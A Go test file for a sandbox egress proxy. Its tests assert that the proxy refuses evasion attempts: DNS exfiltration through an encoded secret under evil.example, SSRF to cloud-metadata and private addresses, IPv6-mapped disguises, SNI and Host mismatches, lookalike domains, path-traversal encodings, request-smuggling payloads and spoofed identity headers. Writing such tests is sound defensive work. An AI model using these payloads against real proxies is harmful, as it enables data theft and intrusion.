package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nemoclave/nemoclave/policy"
)

// The rows of SECURITY-TESTS.md "Network and egress" that the gateway
// enforces on its own. Each test names its row. N1, N2, N4, N17, N18 and
// N19 need a real sandbox network namespace and live in sandbox/ and e2e/.

// expectClosed asserts the proxy closes the tunnel (EOF or reset, not a
// read timeout) without sending application data.
func expectClosed(t *testing.T, c net.Conn) {
	t.Helper()
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	var ne net.Error
	if err == nil || (errors.As(err, &ne) && ne.Timeout()) {
		t.Fatalf("tunnel still open: read %d bytes %q, err %v", n, buf[:n], err)
	}
}

func TestEscape_N3_NoDNSBeforeDecision(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1"})
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("api.example.com", 443)))
	secret := "c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA.evil.example"
	for _, target := range []string{secret + ":443", "api.example.com:444", "API.EXAMPLE.COM.evil.example:443"} {
		_, _, resp := connect(t, addr, target)
		if resp.StatusCode != http.StatusForbidden {
			t.Fatalf("CONNECT %s: status %d, want 403", target, resp.StatusCode)
		}
	}
	resp := plainRequest(t, addr, "GET http://"+secret+"/ HTTP/1.1\r\nHost: "+secret+"\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("plain GET: status %d, want 403", resp.StatusCode)
	}
	if got := e.res.lookups(); len(got) != 0 {
		t.Fatalf("denied names reached the resolver: %v", got)
	}
	e.waitEvent(t, "deny for the secret host", func(ev Event) bool {
		return ev.Host == strings.ToLower(secret) && ev.Decision == "deny" && ev.IP == ""
	})
}

func TestEscape_N5_MappedAndTranslatedForms(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string]string{
		"mapped.example":   "::ffff:127.0.0.1",
		"nat64.example":    "64:ff9b::7f00:1",
		"nat64md.example":  "64:ff9b::a9fe:a9fe",
		"sixto4.example":   "2002:7f00:1::1",
		"sixto4pv.example": "2002:0a00:0001::1",
		"teredo.example":   "2001:0:4136:e378:8000:63bf:3fff:fdd2",
		"v6lo.example":     "::1",
		"compat.example":   "::7f00:1",
	}, withoutLoopback)
	var eps []policy.Endpoint
	for _, h := range []string{"mapped.example", "nat64.example", "nat64md.example", "sixto4.example", "sixto4pv.example", "teredo.example", "v6lo.example", "compat.example", "127.0.0.1"} {
		eps = append(eps, ep(h, 80))
	}
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, eps...))
	for _, host := range []string{"mapped.example", "nat64.example", "nat64md.example", "sixto4.example", "sixto4pv.example", "teredo.example", "v6lo.example", "compat.example"} {
		resp := plainRequest(t, addr, "GET http://"+host+"/ HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", host, resp.StatusCode)
		}
	}
	// Literal forms: the mapped literal canonicalises to 127.0.0.1 (which
	// the policy names) and is then refused as loopback; other literals
	// are not in the policy.
	for _, lit := range []string{"[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::1]", "[::1]"} {
		resp := plainRequest(t, addr, "GET http://"+lit+"/ HTTP/1.1\r\nHost: "+lit+"\r\n\r\n")
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", lit, resp.StatusCode)
		}
	}
	ev := e.waitEvent(t, "mapped literal refused as loopback", func(ev Event) bool {
		return ev.Host == "127.0.0.1" && strings.Contains(ev.Reason, "loopback")
	})
	if ev.Rule == "" {
		t.Errorf("mapped literal should have matched the 127.0.0.1 rule before vetting: %+v", ev)
	}
}

func TestEscape_N6_HostNotInPolicy(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string]string{"other.example": "127.0.0.1"})
	addr := e.serve(t, "sb", pol(3, policy.UnknownDeny, ep("api.example.com", 443)))
	_, _, resp := connect(t, addr, "other.example:443")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("status %d, want 403", resp.StatusCode)
	}
	b := body(t, resp)
	for _, want := range []string{"other.example:443", "not in the network policy", "approvals", "network \"name\""} {
		if !strings.Contains(b, want) {
			t.Errorf("403 body lacks %q:\n%s", want, b)
		}
	}
	ev := e.waitEvent(t, "deny", func(ev Event) bool { return ev.Host == "other.example" })
	if ev.Decision != "deny" || ev.Sandbox != "sb" || ev.Port != 443 || ev.Revision != 3 || ev.Kind != "connect" {
		t.Fatalf("audit event %+v", ev)
	}
}

func TestEscape_N7_PortNotAllowed(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1"})
	// Even under "ask" a known host on another port is refused outright.
	addr := e.serve(t, "sb", pol(1, policy.UnknownAsk, ep("api.example.com", 443)))
	for _, port := range []string{"22", "8443", "80"} {
		_, _, resp := connect(t, addr, "api.example.com:"+port)
		if resp.StatusCode != http.StatusForbidden {
			t.Fatalf("port %s: status %d, want 403", port, resp.StatusCode)
		}
		if b := body(t, resp); !strings.Contains(b, "port "+port) {
			t.Errorf("403 body does not name the port: %s", b)
		}
	}
	if n := len(e.p.Approvals().List()); n != 0 {
		t.Fatalf("a port violation was held for approval (%d pending)", n)
	}
	if got := e.res.lookups(); len(got) != 0 {
		t.Fatalf("resolver called: %v", got)
	}
}

func TestEscape_N8_SNIMismatch(t *testing.T) {
	t.Parallel()
	up, port := rawUpstream(t, false)
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1", "evil.example": "127.0.0.1"})
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("api.example.com", port)))
	authority := "api.example.com:" + strconv.Itoa(port)
	c, _, resp := connect(t, addr, authority)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("CONNECT: %d", resp.StatusCode)
	}
	if _, err := c.Write(captureHello(t, &tls.Config{ServerName: "evil.example"})); err != nil {
		t.Fatal(err)
	}
	expectClosed(t, c)
	ev := e.waitEvent(t, "SNI mismatch", func(ev Event) bool { return ev.SNI == "evil.example" })
	if ev.Decision != "deny" || !strings.Contains(ev.Reason, "does not match") {
		t.Fatalf("audit event %+v", ev)
	}
	if n := up.accepted(); n != 0 {
		t.Fatalf("upstream saw %d connections; nothing may reach it before the SNI check", n)
	}
	if got := e.res.lookups(); len(got) != 0 {
		t.Fatalf("resolved %v before the SNI check passed", got)
	}
}

func TestEscape_N9_HostHeaderMismatch(t *testing.T) {
	t.Parallel()
	_, port := plainUpstream(t, echoHandler)
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1", "evil.example": "127.0.0.1"})
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("api.example.com", port)))
	hp := "api.example.com:" + strconv.Itoa(port)
	ok := plainRequest(t, addr, "GET http://"+hp+"/x HTTP/1.1\r\nHost: "+hp+"\r\n\r\n")
	if ok.StatusCode != 200 || body(t, ok) != "GET /x" {
		t.Fatalf("control request: %d", ok.StatusCode)
	}
	for name, raw := range map[string]string{
		"other host":    "GET http://" + hp + "/ HTTP/1.1\r\nHost: evil.example:" + strconv.Itoa(port) + "\r\n\r\n",
		"other port":    "GET http://" + hp + "/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
		"no host":       "GET http://" + hp + "/ HTTP/1.1\r\n\r\n",
		"two hosts":     "GET http://" + hp + "/ HTTP/1.1\r\nHost: " + hp + "\r\nHost: evil.example\r\n\r\n",
		"origin form":   "GET / HTTP/1.1\r\nHost: " + hp + "\r\n\r\n",
		"https in form": "GET https://" + hp + "/ HTTP/1.1\r\nHost: " + hp + "\r\n\r\n",
	} {
		resp := plainRequest(t, addr, raw)
		if resp.StatusCode != http.StatusMisdirectedRequest && resp.StatusCode != http.StatusForbidden && resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 421/403/400", name, resp.StatusCode)
		}
	}
	resp := plainRequest(t, addr, "GET http://"+hp+"/ HTTP/1.1\r\nHost: evil.example:"+strconv.Itoa(port)+"\r\n\r\n")
	if resp.StatusCode != http.StatusMisdirectedRequest {
		t.Fatalf("Host mismatch: %d, want 421", resp.StatusCode)
	}
}

func TestEscape_N10_ClientHelloWithoutUsableSNI(t *testing.T) {
	t.Parallel()
	up, port := rawUpstream(t, false)
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1", "opaque.example": "127.0.0.1"})
	opaque := ep("opaque.example", port)
	opaque.AllowOpaque = true
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("api.example.com", port), opaque))
	real := captureHello(t, &tls.Config{ServerName: "api.example.com"})
	cases := map[string][]byte{
		"no SNI":         buildHello(nil, false),
		"ECH":            buildHello([]string{"api.example.com"}, true),
		"several names":  buildHello([]string{"api.example.com", "api.example.com"}, false),
		"split record":   splitRecord(real, 40),
		"garbled":        append([]byte{0x16, 0x03, 0x01, 0x00, 0x10}, []byte("not a handshake!")...),
		"short header":   {0x16, 0x03},
		"huge record":    {0x16, 0x03, 0x01, 0xff, 0xff},
		"not hello type": {0x16, 0x03, 0x01, 0x00, 0x04, 0x02, 0x00, 0x00, 0x00},
	}
	for name, hello := range cases {
		c, _, resp := connect(t, addr, "api.example.com:"+strconv.Itoa(port))
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: CONNECT %d", name, resp.StatusCode)
		}
		c.Write(hello)
		if name == "short header" {
			c.(*net.TCPConn).CloseWrite()
		}
		expectClosed(t, c)
	}
	if n := up.accepted(); n != 0 {
		t.Fatalf("upstream saw %d connections from refused hellos", n)
	}
	// The same hellos pass where the rule allows opaque tunnels.
	for _, name := range []string{"no SNI", "ECH", "several names"} {
		c, _, resp := connect(t, addr, "opaque.example:"+strconv.Itoa(port))
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("opaque %s: CONNECT %d", name, resp.StatusCode)
		}
		hello := cases[name]
		if name != "no SNI" {
			hello = map[string][]byte{
				"ECH":           buildHello([]string{"opaque.example"}, true),
				"several names": buildHello([]string{"opaque.example", "opaque.example"}, false),
			}[name]
		}
		c.Write(hello)
		c.Close()
	}
	deadline := time.Now().Add(time.Minute)
	for up.accepted() < 3 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if n := up.accepted(); n != 3 {
		t.Fatalf("allow_opaque endpoint: upstream saw %d connections, want 3", n)
	}
}

func TestEscape_N11_NonTLSInTunnel(t *testing.T) {
	t.Parallel()
	up, port := rawUpstream(t, true)
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1", "opaque.example": "127.0.0.1"})
	opaque := ep("opaque.example", port)
	opaque.AllowOpaque = true
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("api.example.com", port), opaque))
	c, _, resp := connect(t, addr, "api.example.com:"+strconv.Itoa(port))
	if resp.StatusCode != http.StatusOK {
		t.Fatal(resp.Status)
	}
	c.Write([]byte("SSH-2.0-OpenSSH_9.2\r\n"))
	expectClosed(t, c)
	if up.accepted() != 0 {
		t.Fatal("non-TLS bytes reached the upstream")
	}
	e.waitEvent(t, "non-TLS refusal", func(ev Event) bool { return strings.Contains(ev.Reason, "non-TLS") })

	c, br, resp := connect(t, addr, "opaque.example:"+strconv.Itoa(port))
	if resp.StatusCode != http.StatusOK {
		t.Fatal(resp.Status)
	}
	msg := "SSH-2.0-OpenSSH_9.2\r\n"
	c.Write([]byte(msg))
	got := make([]byte, len(msg))
	if _, err := io.ReadFull(br, got); err != nil || string(got) != msg {
		t.Fatalf("opaque tunnel echo: %q %v", got, err)
	}
}

func TestEscape_N12_AllowedNameResolvesToForbiddenAddress(t *testing.T) {
	t.Parallel()
	hosts := map[string]string{
		"lo.example":       "127.0.0.1",
		"metadata.example": "169.254.169.254",
		"ll.example":       "169.254.10.1",
		"private.example":  "10.1.2.3",
		"cgnat.example":    "100.64.0.1",
		"ula.example":      "fd12::1",
		"self.example":     "203.0.113.7",
		"zero.example":     "0.0.0.0",
		"mcast.example":    "224.0.0.1",
		"awsv6.example":    "fd00:ec2::254",
	}
	e := newEnv(t, hosts, withoutLoopback)
	var eps []policy.Endpoint
	for h := range hosts {
		eps = append(eps, ep(h, 443))
	}
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, eps...))
	for h := range hosts {
		c, _, resp := connect(t, addr, h+":443")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: CONNECT %d", h, resp.StatusCode)
		}
		c.Write(captureHello(t, &tls.Config{ServerName: h}))
		expectClosed(t, c)
		ev := e.waitEvent(t, "refusal of "+h, func(ev Event) bool { return ev.Host == h && ev.Decision != "open" })
		if ev.Decision != "deny" || !strings.Contains(ev.Reason, "not reachable from a sandbox") {
			t.Errorf("%s: %+v", h, ev)
		}
	}
	// allow_private lifts private ranges only, never loopback, link-local
	// or metadata. Checked without dialling: no traffic to private ranges.
	for host, wantOK := range map[string]bool{"private.example": true, "cgnat.example": true, "ula.example": true,
		"lo.example": false, "metadata.example": false, "ll.example": false, "self.example": false, "awsv6.example": false} {
		tg, _ := ParseAuthority(host + ":443")
		_, err := e.p.resolveAndVet(context.Background(), tg, true)
		if (err == nil) != wantOK {
			t.Errorf("allow_private %s: err %v, want ok=%v", host, err, wantOK)
		}
	}
}

func TestEscape_N13_IPLiteral(t *testing.T) {
	t.Parallel()
	_, port := tlsUpstream(t, echoHandler, "127.0.0.1")
	e := newEnv(t, nil)
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("api.example.com", port), ep("127.0.0.1", port)))
	for _, target := range []string{"8.8.8.8:443", "127.0.0.2:" + strconv.Itoa(port), "[2001:4860:4860::8888]:443", "2130706433:" + strconv.Itoa(port), "0x7f.0.0.1:" + strconv.Itoa(port), "127.1:" + strconv.Itoa(port)} {
		_, _, resp := connect(t, addr, target)
		if resp.StatusCode != http.StatusForbidden && resp.StatusCode != http.StatusBadRequest {
			t.Errorf("CONNECT %s: %d, want 403/400", target, resp.StatusCode)
		}
	}
	// The literal the policy names works, without SNI as clients send for
	// addresses.
	tc, err := tunnelTLS(t, addr, "127.0.0.1:"+strconv.Itoa(port), "127.0.0.1", upstreamPKI(t).pool)
	if err != nil {
		t.Fatalf("allowed literal: %v", err)
	}
	resp := roundTrip(t, tc, bufio.NewReader(tc), "GET /lit HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
	if b := body(t, resp); b != "GET /lit" {
		t.Fatalf("allowed literal body %q", b)
	}
}

func TestEscape_N14_WildcardLookalikes(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string]string{"api.github.com": "127.0.0.1"})
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny,
		ep("github.com", 443), ep("*.githubusercontent.com", 443), ep("bücher.example", 443)))
	cases := map[string]int{
		"github.com:443":                         200,
		"GitHub.COM.:443":                        200,
		"raw.githubusercontent.com:443":          200,
		"a.b.githubusercontent.com:443":          200,
		"xn--bcher-kva.example:443":              200,
		"BÜCHER.example:443":                     200,
		"evil-github.com:443":                    403,
		"github.com.evil.io:443":                 403,
		"githubusercontent.com:443":              403,
		"evilgithubusercontent.com:443":          403,
		"api.github.com:443":                     403,
		"bucher.example:443":                     403,
		"xn--gthub-n4a.com:443":                  403, // Cyrillic і homograph
		"github.com..:443":                       400,
		"github.com%2eevil.io:443":               400,
		"user@github.com:443":                    400,
		"github.com:0443":                        400,
		"github.com:443/path":                    400,
		"*.githubusercontent.com:443":            400,
		"raw.githubusercontent.com.evil.io.:443": 403,
		"raw.githubusercontent.com\x00.evil:443": 400,
	}
	for target, want := range cases {
		c, _, resp := connect(t, addr, target)
		if resp.StatusCode != want {
			t.Errorf("CONNECT %q: %d, want %d", target, resp.StatusCode, want)
		}
		c.Close()
	}
}

func TestEscape_N15_PathAndMethodTricks(t *testing.T) {
	t.Parallel()
	_, port := tlsUpstream(t, echoHandler, "api.example.com")
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1"})
	insp := ep("api.example.com", port)
	insp.Inspect = true
	insp.Allow = []policy.HTTPRule{{Methods: []string{"GET"}, Paths: []string{"/ok/**"}}, {Methods: []string{"GET"}, Paths: []string{"/search"}, Query: map[string][]string{"q": {"*"}}}}
	insp.Deny = []policy.HTTPRule{{Paths: []string{"/ok/secret/**"}}}
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, insp))
	ca, err := e.p.CA("sb")
	if err != nil {
		t.Fatal(err)
	}
	roots := certPool(ca.CertPEM())
	hp := "api.example.com:" + strconv.Itoa(port)
	type want struct {
		status int
		seen   string // request URI the upstream saw, for allowed ones
	}
	cases := []struct {
		method, target string
		want
	}{
		{"GET", "/ok/file", want{200, "/ok/file"}},
		{"GET", "//ok///file", want{200, "/ok/file"}},
		{"GET", "/ok/./a/../file", want{200, "/ok/file"}},
		{"GET", "/ok/../admin", want{403, ""}},
		{"GET", "/ok/%2e%2e/admin", want{403, ""}},
		{"GET", "/ok/%2E%2E%2Fadmin", want{403, ""}},
		{"GET", "/ok%2F..%2F..%2Fadmin", want{403, ""}},
		{"GET", "//admin", want{403, ""}},
		{"GET", "/ok/secret/x", want{403, ""}},
		{"GET", "/ok/x/../secret/key", want{403, ""}},
		{"GET", "/ok/%73ecret/key", want{403, ""}},
		{"GET", "/ok/a%2Fb", want{200, "/ok/a/b"}},
		{"POST", "/ok/file", want{403, ""}},
		{"get", "/ok/file", want{400, ""}},
		{"GET", "/ok/..%5Cadmin", want{400, ""}},
		{"GET", "/ok/x;jsessionid=1", want{400, ""}},
		{"GET", "/ok/%zz", want{400, ""}},
		{"GET", "/search?q=cats", want{200, "/search?q=cats"}},
		{"GET", "/search", want{403, ""}},
		{"GET", "https://" + hp + "/ok/file", want{400, ""}},
	}
	for _, tc := range cases {
		conn, err := tunnelTLS(t, addr, hp, "api.example.com", roots)
		if err != nil {
			t.Fatalf("tunnel: %v", err)
		}
		resp := roundTrip(t, conn, bufio.NewReader(conn), tc.method+" "+tc.target+" HTTP/1.1\r\nHost: "+hp+"\r\n\r\n")
		if resp.StatusCode != tc.status {
			t.Errorf("%s %s: status %d, want %d", tc.method, tc.target, resp.StatusCode, tc.status)
			continue
		}
		if tc.status == 200 {
			if b := body(t, resp); b != "GET "+tc.seen {
				t.Errorf("%s %s: upstream saw %q, want %q", tc.method, tc.target, b, "GET "+tc.seen)
			}
		}
		conn.Close()
	}
	e.waitEvent(t, "inspected deny with normalised path", func(ev Event) bool {
		return ev.Kind == "inspected" && ev.Path == "/admin" && ev.Decision == "deny"
	})
}

func TestEscape_N16_RequestSmuggling(t *testing.T) {
	t.Parallel()
	_, port := plainUpstream(t, echoHandler)
	_, tport := tlsUpstream(t, echoHandler, "api.example.com")
	e := newEnv(t, map[string]string{"plain.example": "127.0.0.1", "api.example.com": "127.0.0.1"})
	insp := ep("api.example.com", tport)
	insp.Inspect = true
	addr := e.serve(t, "sb", pol(1, policy.UnknownDeny, ep("plain.example", port), insp))
	hp := "plain.example:" + strconv.Itoa(port)
	smuggles := map[string]string{
		"CL+TE":          "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"TE+CL":          "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
		"duplicate CL":   "Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd",
		"conflicting CL": "Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
		"TE identity":    "Transfer-Encoding: identity\r\n\r\n",
		"TE chunked,x":   "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
		"duplicate TE":   "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"h2c upgrade":    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
		"websocket":      "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
		"obs-fold":       "X-A: b\r\n  folded\r\n\r\n",
		"space in name":  "Content-Length : 4\r\n\r\nabcd",
		"bare LF":        "X-A: b\n\r\n",
	}
	for name, rest := range smuggles {
		resp := plainRequest(t, addr, "POST http://"+hp+"/ HTTP/1.1\r\nHost: "+hp+"\r\n"+rest)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("plain %s: status %d, want 400", name, resp.StatusCode)
		}
	}
	prior := plainRequest(t, addr, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	if prior.StatusCode != http.StatusBadRequest {
		t.Errorf("h2 prior knowledge: %d, want 400", prior.StatusCode)
	}
	ca, _ := e.p.CA("sb")
	thp := "api.example.com:" + strconv.Itoa(tport)
	for name, rest := range smuggles {
		conn, err := tunnelTLS(t, addr, thp, "api.example.com", certPool(ca.CertPEM()))
		if err != nil {
			t.Fatal(err)
		}
		resp := roundTrip(t, conn, bufio.NewReader(conn), "POST / HTTP/1.1\r\nHost: "+thp+"\r\n"+rest)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("inspected %s: status %d, want 400", name, resp.StatusCode)
		}
		conn.Close()
	}
}

func TestEscape_N20_IdentityIsTheListener(t *testing.T) {
	t.Parallel()
	_, port := plainUpstream(t, echoHandler)
	e := newEnv(t, map[string]string{"api.example.com": "127.0.0.1"})
	addrA := e.serve(t, "sandbox-a", pol(1, policy.UnknownDeny, ep("api.example.com", port)))
	addrB := e.serve(t, "sandbox-b", pol(1, policy.UnknownDeny, ep("other.example", 443)))
	hp := "api.example.com:" + strconv.Itoa(port)
	spoof := "X-Nemoclave-Sandbox: sandbox-a\r\nProxy-Authorization: Bearer sandbox-a\r\nForwarded: for=sandbox-a\r\n"
	if r := plainRequest(t, addrA, "GET http://"+hp+"/ HTTP/1.1\r\nHost: "+hp+"\r\n\r\n"); r.StatusCode != 200 {
		t.Fatalf("sandbox-a control: %d", r.StatusCode)
	}
	if r := plainRequest(t, addrB, "GET http://"+hp+"/ HTTP/1.1\r\nHost: "+hp+"\r\n"+spoof+"\r\n"); r.StatusCode != http.StatusForbidden {
		t.Fatalf("sandbox-b spoofing a: %d, want 403", r.StatusCode)
	}
	_, _, resp := connect(t, addrB, hp, strings.Split(strings.TrimSpace(spoof), "\r\n")...)
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("CONNECT from b spoofing a: %d", resp.StatusCode)
	}
	for _, ev := range e.events(t) {
		if ev.Decision == "deny" && ev.Sandbox != "sandbox-b" {
			t.Fatalf("denial attributed to %q: %+v", ev.Sandbox, ev)
		}
	}
	// A listener whose sandbox has no policy denies everything.
	addrC := e.serve(t, "sandbox-c", nil)
	if r := plainRequest(t, addrC, "GET http://"+hp+"/ HTTP/1.1\r\nHost: "+hp+"\r\n"+spoof+"\r\n"); r.StatusCode != http.StatusForbidden {
		t.Fatalf("sandbox without policy: %d, want 403", r.StatusCode)
	}
}

func TestEscape_N21_PendingApprovalTimesOut(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string]string{"unknown.example": "127.0.0.1"}, func(c *Config) { c.ApprovalTimeout = 300 * time.Millisecond })
	addr := e.serve(t, "sb", pol(1, policy.UnknownAsk, ep("api.example.com", 443)))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	events := e.p.Approvals().Watch(ctx)
	done := make(chan *http.Response, 1)
	go func() {
		_, _, resp := connect(t, addr, "unknown.example:443")
		done <- resp
	}()
	ev := <-events
	if ev.Type != "pending" || ev.Approval.Host != "unknown.example" || ev.Approval.Sandbox != "sb" {
		t.Fatalf("first event %+v", ev)
	}
	resp := <-done
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("status %d, want 403 after the approval timeout", resp.StatusCode)
	}
	if b := body(t, resp); !strings.Contains(b, "no operator answered") {
		t.Errorf("403 body does not say the approval timed out: %s", b)
	}
	if ev := <-events; ev.Type != "resolved" || ev.Answer != AnswerDeny {
		t.Fatalf("resolution event %+v", ev)
	}
	if n := len(e.p.Approvals().List()); n != 0 {
		t.Fatalf("%d approvals still pending", n)
	}
	if got := e.res.lookups(); len(got) != 0 {
		t.Fatalf("held name was resolved: %v", got)
	}
}
